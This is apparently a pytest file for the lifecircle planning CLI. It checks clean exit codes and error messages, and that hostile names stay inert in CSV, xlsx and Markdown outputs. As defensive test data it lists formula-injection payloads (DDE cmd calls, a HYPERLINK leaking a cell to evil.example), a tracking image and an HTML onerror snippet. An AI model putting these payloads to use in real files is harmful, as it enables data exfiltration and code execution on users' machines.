"""Hostile inputs against the files planners open and the command line's exit codes.

Each case asserts the exact outcome: exit code 2 with one ``error:`` line naming the file,
key or option and the fix, no traceback, nothing left on disk; or, for names that are
spreadsheet formulas or Markdown images, cells and lines that stay inert (the xlsx is
opened with openpyxl and every cell's value and type checked).
"""

from __future__ import annotations

import errno
import os
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from lifecircle import atomic_files as _atomic
from lifecircle._cli_support import plain_message
from lifecircle.cli import app
from lifecircle.study import outputs as study_outputs
from lifecircle.tables import neutralise_formula, write_csv, write_xlsx

runner = CliRunner()

#: Cell texts a spreadsheet would run as formulas (OWASP CSV injection, DDE, full-width).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
IMAGE = "![pixel](http://evil.example/track.png)"


def _invoke(*args: object, env: dict[str, str] | None = None):
    return runner.invoke(app, [str(a) for a in args], env=env)


def _one_error_line(result, *needles: str, code: int = 2) -> str:
    """One ``error:`` message (a study file's problems are listed below its first line)."""
    assert result.exit_code == code, result.output
    message = result.stderr.strip()
    lines = message.splitlines()
    assert lines[0].startswith("error: "), message
    assert all(line.startswith("  ") for line in lines[1:]), message
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in message, message
    return message


@pytest.fixture()
def study(tmp_path: Path) -> Path:
    assert _invoke("init", tmp_path / "study.toml", "--demo-data").exit_code == 0
    return tmp_path / "study.toml"


def _edit(study: Path, old: str, new: str) -> Path:
    text = study.read_text(encoding="utf-8")
    assert old in text, old
    study.write_text(text.replace(old, new, 1), encoding="utf-8")
    return study


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if ".lifecircle" not in
                  str(p))  # fmt: skip


# ------------------------------------------------------------------- bad input: exit 2
#: (edit of the study file, command, needles of the one error line)
STUDY_CASES = {
    "unknown layer crs": (
        ('seats = "data/seats.geojson"',
         'seats = { path = "data/seats.geojson", crs = "EPSG:999999" }'),
        ("validate",), ("seats.geojson", "layers.seats.crs", "EPSG:999999", "'gcj02'"),
    ),
    "unknown default crs": (
        ("[layers]", '[layers]\ncrs = "mars2000"'),
        ("validate",), ("layers.grids.crs", "layers.seats.crs", "mars2000", "EPSG code"),
    ),
    "crs of the wrong type": (
        ('seats = "data/seats.geojson"', 'seats = { path = "data/seats.geojson", crs = true }'),
        ("validate",), ("layers.seats.crs", "got true"),
    ),
    "tianditu without a key": (
        ('lang = "zh"', 'lang = "zh"\nbasemap = "tianditu"'),
        ("map",), ("study.toml", "LIFECIRCLE_TIANDITU_KEY", "tianditu_key", "[outputs]"),
    ),
    "tianditu key with markup": (
        ('lang = "zh"', 'lang = "zh"\nbasemap = "tianditu"\ntianditu_key = "k<script>"'),
        ("validate",), ("outputs.tianditu_key", "letters and digits"),
    ),
    "validate names a missing key": (
        ('lang = "zh"', 'lang = "zh"\nbasemap = "tianditu"'),
        ("validate",), ("LIFECIRCLE_TIANDITU_KEY",),
    ),
    "lattice too fine (validate)": (
        ("walk_minutes = 15", "walk_minutes = 15\nspacing_m = 0.001"),
        ("validate",), ("study.toml", "analysis.spacing_m", "spacing_m of at least"),
    ),
    "lattice too fine (check)": (
        ("walk_minutes = 15", "walk_minutes = 15\nspacing_m = 0.001"),
        ("check", "--json", "out/r.json", "--xlsx", "out/r.xlsx"),
        ("0.001 m (spacing_m under [analysis])", "spacing_m of at least"),
    ),
    "cache folder is a file": (
        ('dir = ".lifecircle-cache"', 'dir = "data/grids.geojson"'),
        ("check",), ("cache.dir", "is a file", 'dir = "another-folder" under [cache]'),
    ),
    "outputs folder is a file": (
        ('dir = "lifecircle-output"', 'dir = "data/seats.geojson"'),
        ("map",), ("outputs.dir", "is a file", "under [outputs]"),
    ),
    "unknown basemap option": (
        None, ("map", "--basemap", "google"), ("--basemap 'google'", "osm"),
    ),
    "xlsx option with another suffix": (
        None, ("check", "--xlsx", "out/r.xls"), ("--xlsx r.xls", ".xlsx"),
    ),
    "suggest output with an unknown suffix": (
        None, ("suggest", "-k", "2", "-o", "out/seats.docx"), ("--output seats.docx", ".xlsx"),
    ),
    "bad option value": (
        None, ("check", "--lang", "fr"), ("'fr'", "lifecircle check --help"),
    ),
    "xlsx below a file": (
        None, ("check", "--xlsx", "data/grids.geojson/r.xlsx"),
        ("grids.geojson", "a file stands where a folder should be"),
    ),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("case", list(STUDY_CASES))
def test_bad_input_is_one_error_line_and_leaves_nothing(study: Path, case: str, monkeypatch):
    monkeypatch.delenv("LIFECIRCLE_TIANDITU_KEY", raising=False)
    monkeypatch.chdir(study.parent)
    edit, command, needles = STUDY_CASES[case]
    if edit is not None:
        _edit(study, *edit)
    before = _files(study.parent)
    result = _invoke(command[0], study, *command[1:])
    _one_error_line(result, *needles)
    assert _files(study.parent) == before  # no output, no partial file, no stray folder


def test_tianditu_key_is_checked_before_the_analysis(study: Path, monkeypatch) -> None:
    """A bad key in the environment is named as such, and no analysis runs first."""
    _edit(study, 'lang = "zh"', 'lang = "zh"\nbasemap = "tianditu"')
    monkeypatch.setattr("lifecircle.study.run.load_study_layers", _must_not_run)
    result = _invoke("map", study, env={"LIFECIRCLE_TIANDITU_KEY": "bad key!"})
    _one_error_line(result, "environment variable LIFECIRCLE_TIANDITU_KEY", "letters and digits")


def _must_not_run(*args: object, **kwargs: object) -> None:
    raise AssertionError("the analysis ran before the basemap key was checked")


def test_study_file_with_a_byte_order_mark_is_read(study: Path) -> None:
    study.write_bytes(b"\xef\xbb\xbf" + study.read_bytes())
    result = _invoke("validate", study)
    assert result.exit_code == 0, result.output


@pytest.mark.slow
@pytest.mark.parametrize(
    ("code", "needle"),
    [(errno.ENOSPC, "the disk is full"), (errno.EACCES, "permission denied"),
     (errno.EROFS, "read-only")],
)  # fmt: skip
def test_failed_write_names_the_file_and_the_fix(study, monkeypatch, code, needle) -> None:
    real_replace = os.replace

    def refuse(src: object, dst: object) -> None:
        if str(dst).endswith("r.json"):  # as a failed write() or rename: no file name
            raise OSError(code, os.strerror(code))
        real_replace(src, dst)  # type: ignore[arg-type]

    monkeypatch.setattr(_atomic.os, "replace", refuse)
    out = study.parent / "reports" / "r.json"
    result = _invoke("check", study, "--json", out)
    _one_error_line(result, "r.json", needle)
    assert not out.exists() and list(out.parent.iterdir()) == []


@pytest.mark.parametrize(
    ("raised", "code", "needle"),
    [(KeyboardInterrupt(), 130, "interrupted"),
     (RuntimeError("boom"), 3, "unexpected internal error (RuntimeError: boom)"),
     (MemoryError(), 2, "ran out of memory")],
)  # fmt: skip
def test_interruptions_and_bugs_get_their_own_exit_code(study, monkeypatch, raised, code, needle):
    def explode(*args: object, **kwargs: object) -> None:
        raise raised

    monkeypatch.setattr("lifecircle.study.run_study", explode)
    out = study.parent / "r.json"
    result = _invoke("check", study, "--json", out)
    _one_error_line(result, needle, code=code)
    assert not out.exists()


# ------------------------------------------------------------------- formula injection
@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_neutralised_in_csv_and_xlsx(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"name": [text, "plain"], "value": [-12.5, 3], "code": ["-7", "x"]})
    write_csv(frame, tmp_path / "t.csv")
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert back.loc[0, "name"].startswith("'")
    assert back["value"].tolist() == [-12.5, 3]  # real negative numbers stay numbers
    assert back["code"].astype(str).tolist() == ["-7", "x"]
    write_xlsx({"s": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a bare CR as LF
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -12.5
    assert sheet["C2"].value == "-7" and not sheet["C2"].quotePrefix
    for row in sheet.iter_rows():
        assert all(c.data_type != "f" for c in row)


def test_neutralise_leaves_numbers_and_ordinary_text() -> None:
    assert [neutralise_formula(v) for v in (-3, 2.5, "-3", "+4.5e3", "名称", None)] == [
        -3, 2.5, "-3", "+4.5e3", "名称", None,
    ]  # fmt: skip


@pytest.fixture(scope="module")
def hostile_check(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """``check --xlsx --markdown`` and ``suggest -o .csv/.xlsx`` on grids with hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    assert _invoke("init", folder / "study.toml", "--demo-data").exit_code == 0
    study = _edit(folder / "study.toml", 'name = "My subdistrict"', f'name = "{IMAGE}"')
    grids = gpd.read_file(folder / "data" / "grids.geojson")
    names = [*FORMULAS, IMAGE, "a|b <img src=x onerror=alert(1)>"]
    leaves = grids.index[grids["level"] == "microgrid"][: len(names)]
    grids.loc[leaves, "name"] = names
    grids.to_file(folder / "data" / "grids.geojson", driver="GeoJSON")
    out = folder / "out"
    check = _invoke("check", study, "--xlsx", out / "c.xlsx", "--markdown", out / "c.md",
                    "--lang", "en")  # fmt: skip
    assert check.exit_code in (0, 1), check.output
    return {"out": out, "names": names, "check": check}


@pytest.mark.slow
def test_check_xlsx_keeps_hostile_grid_names_as_text(hostile_check) -> None:
    book = openpyxl.load_workbook(hostile_check["out"] / "c.xlsx")
    assert book.sheetnames == ["Targets", "Grids"]
    sheet = book["Grids"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["Target", "Grid id", "Name", "Level", "Achieved (%)"]
    names = {c.value for c in sheet["C"][1:]}
    for text in FORMULAS:  # the layer reader strips surrounding whitespace from names
        assert "'" + text.strip() in names
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
        assert row[4].value is None or isinstance(row[4].value, int | float)


def test_markdown_summary_renders_no_image_link_or_html(hostile_check) -> None:
    text = (hostile_check["out"] / "c.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in html and "<a " not in html
    assert "![pixel]" not in text and "\\!\\[pixel\\]" in text


def test_report_summary_cell_reads_unambiguously(hostile_check) -> None:
    output = hostile_check["check"].output
    assert "worst grid " in output and " grids meet it" in output


def test_markdown_escape_unit() -> None:
    escaped = study_outputs.markdown_escape(IMAGE + " | *b* <i>")
    assert "\\!\\[" in escaped and "\\|" in escaped and "&lt;i&gt;" in escaped


def test_cli_messages_use_study_file_words_not_api_names() -> None:
    text = "3 demand points lie farther than max_snap_m=100 m (listed in result.unsnapped)"
    expected = "3 demand points lie farther than 100 m (max_snap_m under [analysis])"
    assert plain_message(text) == expected
